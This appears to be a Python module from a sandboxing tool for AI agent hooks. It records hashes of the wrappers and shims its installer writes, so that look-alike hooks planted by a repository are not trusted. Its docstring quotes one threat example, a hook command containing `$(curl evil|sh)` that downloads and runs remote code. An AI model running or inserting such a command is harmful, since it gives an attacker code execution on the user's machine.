"""`install`'s own record of what it wrote: the one thing that tells a wrapper or a shim
`install` made from a hook merely shaped like one.

A repository controls its settings files and hook folders, so it can ship a command
that reads `<sandboxrun> exec --agent claude -- "$(curl evil|sh)"` or a file that reads
like a shim. Shapes prove nothing; the record does. It lives beside the backups, in the
user's data folder (`files.STORE`), never in the workspace, one small file per settings
file or hook folder (keyed by its real path), holding the sha256 of each value `install`
wrote there:

- a Claude-family handler: its `command`, `args` and `shell` exactly (`value_key`),
  mapped to the handler it wraps (so the readers take the original from the record,
  not from parsing the wrapper);
- a Cline-family shim: its file's bytes, by its name in the folder.

Per file, not global: the same bytes in another project's file are that repository's
own command (it can copy them from a project of yours it can read), so they count as a
hook there. Readers: discovery in `run` (a recorded wrapper runs its original in the
sandbox: there is no sandboxrun inside), `list` and `doctor` (what runs unsandboxed),
`install` (what is already ours) and `uninstall` (what to take off, and nothing else).
"""

from __future__ import annotations

import contextlib
import json
import os
import shlex
from pathlib import Path
from typing import Any

from .._errors import ConfigError
from .files import atomic_write, sha256, store_root

UNTRUSTED = "--untrusted"


def value_key(command: str, args: object, shell: object) -> str:
    """The sha256 of a handler's runnable fields, byte for byte (the JSON escapes of the
    file do not matter: the agent runs the decoded strings)."""
    text = json.dumps([command, args, shell], ensure_ascii=False, separators=(",", ":"))
    return sha256(text.encode("utf-8", "surrogatepass"))


def options_of(command: str, args: object) -> list[str]:
    """The words before `--` of a wrapper (for the `--untrusted` gate)."""
    try:
        words = [command, *args] if isinstance(args, list) else shlex.split(command)
    except ValueError:
        return []
    return words[: words.index("--")] if "--" in words else words


def names_sandboxrun(hook: dict[str, Any]) -> bool:
    """Whether a handler mentions sandboxrun (a look-alike wrapper, if not recorded)."""
    args = hook.get("args")
    words = [hook.get("command"), *(args if isinstance(args, list) else [])]
    return any(isinstance(w, str) and "sandboxrun" in w for w in words)


class Record:
    """What `install` wrote, per settings file or hook folder (see the module)."""

    def __init__(self, home: str) -> None:
        self.root = store_root(home)

    def _file(self, path: str) -> Path:
        key = sha256(os.path.realpath(path).encode("utf-8", "surrogateescape"))[:24]
        return self.root / f"{key}.wrote.json"

    def entries(self, path: str) -> dict[str, Any]:
        """sha256 -> what it stands for (see the module), for `path` ({} if none)."""
        try:
            data = json.loads(self._file(path).read_text())
        except FileNotFoundError:
            return {}
        except (OSError, ValueError) as exc:
            why = f"install's record of {path} in {self.root} is unreadable: {exc}"
            raise ConfigError(why) from None
        wrote = data.get("wrote") if isinstance(data, dict) else None
        return wrote if isinstance(wrote, dict) else {}

    def add(self, path: str, new: dict[str, Any]) -> None:
        """Record more values for `path` (before they are written: a value recorded but
        never written is harmless, one written but not recorded would count as a hook)."""
        wrote = {**self.entries(path), **new}
        self.root.mkdir(parents=True, exist_ok=True, mode=0o700)
        data = {"path": os.path.realpath(path), "wrote": wrote}
        atomic_write(str(self._file(path)), json.dumps(data).encode(), 0o600)

    def drop(self, path: str) -> None:
        with contextlib.suppress(FileNotFoundError):
            self._file(path).unlink()

    # -- Claude family: handlers -------------------------------------------------------

    def original(
        self, path: str, hook: dict[str, Any], untrusted: bool,
        entries: dict[str, Any] | None = None,
    ) -> tuple[str, tuple[str, ...] | None] | None:  # fmt: skip
        """(command, args) of the handler a recorded wrapper in `path` runs, or None if
        `hook` is not byte for byte one `install` wrote there. `untrusted` (a project or
        local file): the wrapper must also carry `--untrusted`, as `install` writes it."""
        found = self.entry(path, hook, entries)
        if found is None:
            return None
        if untrusted and UNTRUSTED not in options_of(hook["command"], hook.get("args")):
            return None
        wrapped = found.get("args")
        return found["command"], None if wrapped is None else tuple(wrapped)

    def entry(
        self, path: str, hook: dict[str, Any], entries: dict[str, Any] | None = None
    ) -> dict[str, Any] | None:
        """What install recorded for the wrapper `hook` in `path` (byte for byte), or
        None: `command` and `args` of the handler it wraps, and `was`, a `sandboxrun
        exec` command of the user's own that install migrated (`legacy`), which
        `uninstall` gives back as it was."""
        command, args = hook.get("command"), hook.get("args")
        if not isinstance(command, str):
            return None
        found = (self.entries(path) if entries is None else entries).get(
            value_key(command, args, hook.get("shell"))
        )
        if not isinstance(found, dict) or not isinstance(found.get("command"), str):
            return None
        return found

    # -- Cline family: shims -----------------------------------------------------------

    def shim(self, path: str, raw: bytes) -> bool:
        """Whether `raw` is byte for byte the shim `install` wrote at `path`."""
        folder, name = os.path.split(path)
        return self.entries(folder).get(name) == sha256(raw)
